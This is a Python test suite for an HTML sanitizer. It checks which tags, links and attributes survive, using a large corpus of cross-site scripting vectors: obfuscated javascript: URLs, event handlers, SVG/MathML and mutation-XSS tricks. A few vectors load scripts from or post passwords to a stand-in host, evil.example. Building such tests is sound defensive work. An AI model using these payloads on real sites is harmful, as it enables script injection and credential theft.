"""The upstream HTML policy (DESIGN.md section 6): what `sanitize_html` keeps, strips and drops."""

import re
from html.parser import HTMLParser

import pytest

from portal.sanitize import sanitize_html

ALLOWED_TAGS = {"p", "ul", "ol", "li", "strong", "em", "b", "i", "br", "a"}
ALLOWED_SCHEMES = ("http:", "https:", "mailto:")
REL = "noopener noreferrer"
RAW_TAG = re.compile(r"<\s*(/?)\s*([^\s/>]*)")


class _Audit(HTMLParser):
    """Record every tag, attribute, text run and oddity of a sanitized fragment."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.start_tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.end_tags: list[str] = []
        self.text: list[str] = []
        self.oddities: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.start_tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.start_tags.append((tag, attrs))

    def handle_endtag(self, tag):
        self.end_tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.oddities.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.oddities.append(f"declaration {decl!r}")

    def handle_pi(self, data):
        self.oddities.append(f"processing instruction {data!r}")

    def unknown_decl(self, data):
        self.oddities.append(f"unknown declaration {data!r}")


def audit(fragment: str) -> _Audit:
    parser = _Audit()
    parser.feed(fragment)
    parser.close()
    return parser


def visible_text(fragment: str) -> str:
    return "".join(audit(fragment).text)


def assert_no_active_content(output: str) -> None:
    """Fail unless the output holds only allowlisted tags, safe links and inert text."""
    parsed = audit(output)
    assert not parsed.oddities, parsed.oddities
    for tag, attrs in parsed.start_tags:
        assert tag in ALLOWED_TAGS, f"<{tag}> survived in {output!r}"
        names = [name for name, _ in attrs]
        if tag != "a":
            assert not names, f"<{tag}> kept attributes {names} in {output!r}"
            continue
        assert set(names) <= {"href", "rel"}, f"<a> kept attributes {names} in {output!r}"
        assert len(names) == len(set(names)), f"duplicate attributes in {output!r}"
        attributes = dict(attrs)
        assert attributes.get("rel") == REL, output
        href = attributes.get("href")
        if href is not None:
            assert href.lower().startswith(ALLOWED_SCHEMES), f"href {href!r} in {output!r}"
    for tag in parsed.end_tags:
        assert tag in ALLOWED_TAGS, f"</{tag}> survived in {output!r}"
    # Text is serialized with < escaped, so every raw "<" left must open an allowlisted tag;
    # this check does not depend on how html.parser recovers from odd markup.
    for _, name in RAW_TAG.findall(output):
        assert name.lower() in ALLOWED_TAGS, f"raw <{name} in {output!r}"
    assert "<script" not in output.lower()


# Hostile vectors: each one's output must pass the no-active-content check.
HOSTILE = [
    # script tags in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt >alert(1)</ScRiPt>",
    "<script\n>alert(1)</script\n>",
    "<script/xss>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    '<script type="text/template">alert(1)</script>',
    "<script>alert(1)",
    "<ScRipT>alert(1)//",
    "<SCRIPT SRC=http://evil.example/x.js?< B >",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scri\x00pt>alert(1)</script>",
    "<script>/*</script><p>after</p>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # event handlers on allowed and disallowed tags
    "<p onclick=alert(1)>p</p>",
    '<a href="https://ok.example/" onmouseover="alert(1)">x</a>',
    "<strong onmouseover=alert(1)>s</strong>",
    "<li onfocus=alert(1) tabindex=0>li</li>",
    "<br onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">after',
    "<body onload=alert(1)>b",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    # dangerous URLs with entity, whitespace and case obfuscation
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="&Tab;javascript:alert(1)">x</a>',
    '<a href="jav&NewLine;ascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://ok.example/" href="javascript:alert(1)">x</a>',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<ul><li><a href="javascript:alert(1)"><b>x</b></a></li></ul>',
    # relative and protocol-relative links
    '<a href="/admin/">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="evil.html">x</a>',
    '<a href="#top">x</a>',
    '<a href="  https://ok.example/">x</a>',
    # SVG and MathML tricks
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>clickme</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # mutation-XSS shapes
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    '<template><img src=x onerror="alert(1)"></template>',
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    # broken and unclosed markup
    "<p>unclosed <b>bold",
    "<li>one<li>two",
    "<img src=x onerror=alert(1)",
    "<p>text <b",
    '<a href="https://ok.example/"',
    "</",
    "<!",
    "<p>a < b and c > d & e</p>",
    "<?xml version='1.0'?><p>x</p>",
    "<!DOCTYPE html><p>x</p>",
    # CSS
    '<p style="width:expression(alert(1))">p</p>',
    '<div style="background:url(javascript:alert(1))">d</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{display:none}</style>text",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # meta refresh, base href
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<p><meta http-equiv="refresh" content="0;url=https://evil.example/"></p>',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    # forms and inputs
    '<form action="javascript:alert(1)"><input name=x><button>go</button></form>',
    '<form action="https://evil.example/steal"><input type="password" name="pw"></form>',
    '<button formaction="javascript:alert(1)">b</button>',
    "<isindex action=javascript:alert(1) type=image>",
    "<select><option><script>alert(1)</script></option></select>",
    # object, embed, iframes
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">fallback</object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
    '<applet code="x">alert(1)</applet>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<table><td background="javascript:alert(1)">t</td></table>',
]


@pytest.mark.parametrize("vector", HOSTILE)
def test_no_hostile_vector_leaves_active_content(vector):
    assert_no_active_content(sanitize_html(vector))


@pytest.mark.parametrize("vector", HOSTILE)
def test_sanitizing_the_output_again_changes_nothing(vector):
    # A fragment that reads differently the second time round is how mutation XSS starts.
    once = sanitize_html(vector)
    assert sanitize_html(once) == once


def test_the_hostile_corpus_is_large():
    assert len(HOSTILE) >= 60


@pytest.mark.parametrize(
    "bad_output",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<p onclick="alert(1)">x</p>',
        '<a href="javascript:alert(1)" rel="noopener noreferrer">x</a>',
        '<a href="/relative" rel="noopener noreferrer">x</a>',
        '<a href="https://ok.example/">no rel</a>',
        '<a href="https://ok.example/" rel="noopener noreferrer" target="_blank">x</a>',
        "<svg><g></g></svg>",
        "<!-- comment -->",
        "<p>fine</p><scr",
    ],
)
def test_the_checker_catches_active_content(bad_output):
    with pytest.raises(AssertionError):
        assert_no_active_content(bad_output)


def test_the_checker_accepts_clean_output():
    assert_no_active_content(
        '<p>Hi &lt;script&gt; <strong>x</strong></p><ul><li><a href="HTTPS://ok.example/" '
        'rel="noopener noreferrer">l</a></li></ul><br>'
    )


# What is kept ----------------------------------------------------------------------------------


def test_it_keeps_the_allowed_formatting_tags():
    fragment = (
        "<p>Try <strong>these</strong> <em>steps</em> <b>this</b> <i>week</i>:<br></p>"
        "<ul><li>one</li></ul><ol><li>two</li></ol>"
    )
    assert sanitize_html(fragment) == fragment


@pytest.mark.parametrize(
    "href",
    [
        "https://help.example/sleep?week=1&day=2",
        "http://help.example/",
        "mailto:help@school.example",
        "HTTPS://HELP.EXAMPLE/",
    ],
)
def test_it_keeps_links_with_http_https_and_mailto_and_adds_rel(href):
    output = sanitize_html(f'<p>See <a href="{href}">the guide</a>.</p>')
    (link,) = [attrs for tag, attrs in audit(output).start_tags if tag == "a"]
    assert dict(link) == {"href": href, "rel": REL}
    assert visible_text(output) == "See the guide."


@pytest.mark.parametrize(
    "extra", ['rel="opener"', 'target="_blank"', 'rel="opener" target="_top"', 'rel="nofollow"']
)
def test_it_replaces_the_upstreams_rel_and_target_on_links(extra):
    output = sanitize_html(f'<a href="https://ok.example/" {extra}>x</a>')
    assert output == f'<a href="https://ok.example/" rel="{REL}">x</a>'


@pytest.mark.parametrize(
    "href",
    [
        "/admin/",
        "//evil.example/x",
        "evil.html",
        "#top",
        "?next=/",
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "ftp://files.example/",
        "tel:+441234",
    ],
)
def test_it_removes_links_that_are_not_absolute_http_https_or_mailto(href):
    output = sanitize_html(f'<p><a href="{href}">the guide</a></p>')
    assert "href" not in output
    assert visible_text(output) == "the guide"
    assert_no_active_content(output)


def test_it_removes_every_attribute_but_href_on_links():
    output = sanitize_html(
        '<p style="color:red" class="x" id="y" title="t" lang="en" data-x="1" onclick="alert(1)">'
        'p <a name="n" id="i" title="t" style="x" href="https://ok.example/">a</a></p>'
    )
    assert output == f'<p>p <a href="https://ok.example/" rel="{REL}">a</a></p>'


# What is stripped: the tag goes, its text stays, nothing turns into visible markup ---------------


@pytest.mark.parametrize(
    "fragment, text",
    [
        ("<div><span>Sleep well</span></div>", "Sleep well"),
        ("<h1>Night</h1><h2>Owl</h2>", "Night Owl"),
        ("<table><tr><td>cell</td></tr></table>", "cell"),
        ("<blockquote><u>quoted</u></blockquote>", "quoted"),
        ('<font color="red">red</font>', "red"),
        ("<details><summary>more</summary>hidden</details>", "morehidden"),
        ("<button>go</button>", "go"),
        ("<marquee>moving</marquee>", "moving"),
        ("<custom-element>custom</custom-element>", "custom"),
        ("<img src=x onerror=alert(1)>after", "after"),
        ('<form action="https://evil.example/"><input name="pw">fill</form>', "fill"),
    ],
)
def test_it_strips_other_tags_and_keeps_their_text(fragment, text):
    output = sanitize_html(fragment)
    # bleach puts a line break where a block element was; only the words matter.
    assert " ".join(visible_text(output).split()) == text
    assert "&lt;" not in output and "&gt;" not in output
    assert_no_active_content(output)


@pytest.mark.parametrize(
    "fragment, kept",
    [
        ("<p>ok</p><img src=x onerror=alert(1)", "<p>ok</p>"),
        ("<p>Sleep well</p><b", "<p>Sleep well</p>"),
        ('<p>Sleep well</p><a href="https://ok.example/"', "<p>Sleep well</p>"),
    ],
)
def test_a_tag_cut_off_at_the_end_is_dropped_not_shown_as_text(fragment, kept):
    # A browser drops a tag that never closes; showing it as "<img src=x ..." text is the
    # "escaped into visible markup" the policy rules out.
    assert sanitize_html(fragment) == kept


def test_it_removes_comments_and_doctypes():
    output = sanitize_html("<!DOCTYPE html><p>a</p><!-- internal note --><p>b</p>")
    assert output == "<p>a</p><p>b</p>"


def test_it_escapes_stray_angle_brackets_in_text():
    assert sanitize_html("<p>a < b & c > d</p>") == "<p>a &lt; b &amp; c &gt; d</p>"


def test_it_closes_unclosed_markup():
    assert sanitize_html("<ul><li>one<li>two") == "<ul><li>one</li><li>two</li></ul>"
    assert sanitize_html("<p>unclosed <b>bold") == "<p>unclosed <b>bold</b></p>"


@pytest.mark.parametrize("empty", [None, "", "   ", "<script>alert(1)</script>"])
def test_it_returns_an_empty_string_when_nothing_is_left(empty):
    assert sanitize_html(empty) == ""


# What is dropped with its text ------------------------------------------------------------------

DROPPED_WITH_TEXT = [
    "<script>alert(1)</script>",
    "<script type=module>alert(1)</script>",
    "<style>alert(1)</style>",
    "<template>alert(1)</template>",
    "<template><p>alert(1)</p></template>",
    "<noscript>alert(1)</noscript>",
    '<iframe src="https://evil.example/">alert(1)</iframe>',
    "<iframe>alert(1)</iframe>",
    "<object>alert(1)</object>",
    "<object><p>alert(1)</p></object>",
    "<svg><desc>alert(1)</desc></svg>",
    "<svg><text>alert(1)</text></svg>",
    "<math><mtext>alert(1)</mtext></math>",
    "<math><mi>alert(1)</mi></math>",
    "<textarea>alert(1)</textarea>",
    "<title>alert(1)</title>",
    "<xmp>alert(1)</xmp>",
    "<noembed>alert(1)</noembed>",
    "<noframes>alert(1)</noframes>",
    "<plaintext>alert(1)",
    "<select><option>alert(1)</option></select>",
    "<applet>alert(1)</applet>",
    "<head><title>alert(1)</title></head>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<StYlE>alert(1)</StYlE>",
    "<script>alert(1)",
    "<style>alert(1)",
]


@pytest.mark.parametrize("element", DROPPED_WITH_TEXT)
def test_it_drops_script_like_elements_with_their_text(element):
    output = sanitize_html(f"<p>before</p>{element}")
    assert "alert(1)" not in output
    assert "alert(1)" not in visible_text(output)
    assert output.startswith("<p>before</p>")
    assert_no_active_content(output)


@pytest.mark.parametrize(
    "element",
    [e for e in DROPPED_WITH_TEXT if "</" in e and not e.startswith("<plaintext")],
)
def test_text_after_a_dropped_element_is_kept(element):
    output = sanitize_html(f"{element}<p>after</p>")
    assert output == "<p>after</p>"


def test_a_dropped_element_inside_a_list_leaves_the_list_intact():
    output = sanitize_html(
        "<ul><li>Keep a bedtime<script>alert(1)</script></li>"
        "<li><style>li{}</style>Revise in blocks</li></ul>"
    )
    assert output == "<ul><li>Keep a bedtime</li><li>Revise in blocks</li></ul>"


def test_the_noscript_mutation_leaves_no_image():
    output = sanitize_html('<noscript><p title="</noscript><img src=x onerror=alert(1)>">')
    assert "img" not in output and "onerror" not in output
    assert_no_active_content(output)
